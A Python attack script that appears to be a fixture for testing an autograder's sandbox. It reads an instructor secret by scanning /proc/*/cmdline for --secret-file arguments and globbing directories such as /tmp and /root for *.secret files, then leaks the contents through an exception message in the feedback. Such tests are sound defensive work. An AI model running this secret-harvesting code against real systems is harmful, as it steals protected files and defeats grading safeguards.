"""Attack: find and read the instructor secret, then leak it through the feedback.

It tries the path the test gives it (as if it had guessed right), the --secret-file of
every process it can see, and a search of the usual places."""
import glob
import json

TARGETS = {}  # the test writes the real paths here


def read(path):
    try:
        with open(path, "rb") as f:
            return "ok:" + f.read(80).decode("latin-1")
    except BaseException as exc:
        return type(exc).__name__


found = {"given": read(TARGETS.get("secret_file", "/nonexistent"))}
for cmdline in glob.glob("/proc/*/cmdline"):
    try:
        args = open(cmdline, "rb").read().split(b"\0")
    except OSError:
        continue
    if b"--secret-file" in args:
        found[cmdline] = read(args[args.index(b"--secret-file") + 1].decode())
for pattern in ("/*.secret", "/tmp/**/*.secret", "/root/**/*.secret", "/work/**/*.secret",
                "/home/**/*.secret"):
    for path in glob.glob(pattern, recursive=True)[:5]:
        found[path] = read(path)
raise RuntimeError("LEAK " + json.dumps(sorted(found.items(), key=lambda kv: "ok" not in str(kv[1]))))
